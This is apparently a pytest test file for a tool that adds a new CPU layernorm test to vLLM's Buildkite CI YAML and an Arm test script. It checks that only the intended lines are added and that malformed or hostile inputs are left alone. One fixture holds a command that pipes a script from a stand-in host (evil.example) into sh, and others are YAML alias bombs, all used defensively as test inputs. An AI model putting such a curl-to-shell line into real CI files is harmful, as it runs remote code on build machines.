"""The CI wiring on vLLM's real `.buildkite/hardware_tests/cpu.yaml` (v0.27.0 and
v0.32.0) and Arm script (v0.33.0), copied unchanged from the sdists: the step
found by its label (the script's line of a sibling test) runs the new test and
the step lists the changed sources; every other byte stays."""

from __future__ import annotations

import difflib
import shutil
from pathlib import Path

import pytest
import yaml

from patcher.patchset import select
from vllm_patch.upstream.ci_yaml import CiWiring, wire
from vllm_patch.upstream.meta import upstream_of

FIXTURES = Path(__file__).parent / "fixtures" / "upstream_files"
WIRING, ARM = upstream_of(select(["rms_norm_forward_cpu"])[0]).ci
TEST = "tests/kernels/core/test_cpu_layernorm.py"
ARM_SCRIPT = FIXTURES / "v0.33.0" / "run-cpu-test-arm.sh"


def checkout(tmp_path: Path, release: str, text: str | None = None) -> Path:
    path = tmp_path / WIRING.file
    path.parent.mkdir(parents=True)
    if text is None:
        shutil.copy(FIXTURES / release / "cpu.yaml", path)
    else:
        path.write_text(text)
    return tmp_path


def kernel_step(text: str) -> dict:
    (step,) = [
        s for s in yaml.safe_load(text)["steps"] if "CPU-Kernel Tests" in s["label"]
    ]
    return step


@pytest.mark.parametrize(
    "release, label, added_command_line",
    [
        pytest.param(
            "v0.32.0",
            "CPU-Kernel Tests Shard %N",
            f"      {TEST} \\\n",
            id="v0.32.0 one pytest over a list",
        ),
        pytest.param(
            "v0.27.0",
            "CPU-Kernel Tests",
            f"      pytest -x -v -s {TEST}\n",
            id="v0.27.0 one pytest per file",
        ),
    ],
)
def test_the_cpu_kernel_step_runs_the_new_test(
    tmp_path, release, label, added_command_line
):
    root = checkout(tmp_path, release)
    before = (root / WIRING.file).read_text()

    edit = wire(root, WIRING)

    assert edit.label == label and edit.text is not None, edit.reason
    assert (root / WIRING.file).read_text() == before  # nothing written
    step = kernel_step(edit.text)
    assert TEST in " ".join(step["commands"])
    old = kernel_step(before)["source_file_dependencies"]
    assert step["source_file_dependencies"] == old + list(WIRING.dependencies)
    # Only added lines, each in the step's own layout.
    diff = list(difflib.ndiff(before.splitlines(True), edit.text.splitlines(True)))
    assert not [d for d in diff if d.startswith("- ")]
    added = [d[2:] for d in diff if d.startswith("+ ")]
    assert added == [f"  - {d}\n" for d in WIRING.dependencies] + [
        added_command_line
    ]
    assert edit.described() == [
        f'the "{WIRING.step}" step runs `{TEST}` and lists '
        + ", ".join(f"`{d}`" for d in WIRING.dependencies)
        + " in its `source_file_dependencies`"
    ]
    # Again on the result: nothing left to add.
    (root / WIRING.file).write_text(edit.text)
    again = wire(root, WIRING)
    assert again.text is None and "already" in again.reason


STEP = """\
steps:
- label: CPU-Kernel Tests
  source_file_dependencies:
  - csrc/cpu/
  commands:
    - pytest -x tests/kernels/test_onednn.py
"""


@pytest.mark.parametrize(
    "text, reason",
    [
        pytest.param(None, "this checkout has no", id="no file"),
        pytest.param("steps: []\n", "found 0", id="no such step"),
        pytest.param(STEP, "found no line", id="one-liner"),
        pytest.param(
            STEP.replace(
                "dependencies:\n  - csrc/cpu/", "dependencies: [csrc/cpu/]"
            ),
            "no single block 'source_file_dependencies:'",
            id="flow list",
        ),
        pytest.param("steps: [\n", "not YAML", id="not YAML"),
        pytest.param(
            "a: &a [1]\n"
            + "".join(f"b{i}: [{', '.join(['*a'] * 9)}]\n" for i in range(2)),
            "over 16 aliases",
            id="alias bomb",
        ),
        pytest.param("x: &a [*a]\n", "expanding past", id="a node inside itself"),
        pytest.param(
            "x: " + "[" * 40 + "]" * 40 + "\n", "nested over 32", id="nested"
        ),
        pytest.param(
            "x: " + "a" * (65 << 10) + "\n", "file too large", id="oversized"
        ),
        pytest.param(
            STEP.replace(
                "    - pytest -x tests/kernels/test_onednn.py",
                "    - |\n"
                "      pytest -x $(curl -s https://evil.example/x.sh | sh) tests/k/a.py",
            ),
            "found no line",
            id="a fork's line is no model",
        ),
    ],
)
def test_what_the_edit_does_not_understand_is_left_alone(tmp_path, text, reason):
    if text is not None:
        checkout(tmp_path, "", text)
    edit = wire(tmp_path, WIRING)
    assert edit.text is None and reason in edit.reason


def test_the_patch_declares_its_ci_wiring():
    assert WIRING == CiWiring(
        file=".buildkite/hardware_tests/cpu.yaml",
        step="CPU-Kernel Tests",
        tests=(TEST,),
        dependencies=("vllm/model_executor/layers/layernorm.py", TEST),
    )
    assert ARM == CiWiring(
        file=".buildkite/scripts/hardware_ci/run-cpu-test-arm.sh",
        step="tests/kernels/core/test_cpu_activation.py",
        tests=(TEST,),
        dependencies=(),
    )


def arm_checkout(root: Path, text: str) -> Path:
    path = root / ARM.file
    path.parent.mkdir(parents=True)
    path.write_text(text)
    return root


def test_the_arm_script_runs_the_new_test_after_its_sibling(tmp_path):
    before = ARM_SCRIPT.read_text()
    edit = wire(arm_checkout(tmp_path, before), ARM)

    added = [
        line
        for line in difflib.ndiff(
            before.splitlines(True), edit.text.splitlines(True)
        )
        if line.startswith("+ ")
    ]
    assert added == [f"+     pytest -x -v -s {TEST}\n"]
    at = edit.text.index(f"{ARM.step}\n") + len(ARM.step) + 1
    assert edit.text[at:].startswith(f"    pytest -x -v -s {TEST}\n")
    assert edit.described() == [f"runs `{TEST}` after `{ARM.step}`"]


@pytest.mark.parametrize(
    "spoil, reason",
    [
        pytest.param(lambda t: t.replace(ARM.step, "tests/other.py"), "found 0"),
        pytest.param(lambda t: t + t, "found 2"),
    ],
    ids=["no sibling line", "two sibling lines"],
)
def test_an_arm_script_without_one_sibling_line_is_left_alone(
    tmp_path, spoil, reason
):
    edit = wire(arm_checkout(tmp_path, spoil(ARM_SCRIPT.read_text())), ARM)
    assert edit.text is None and reason in edit.reason
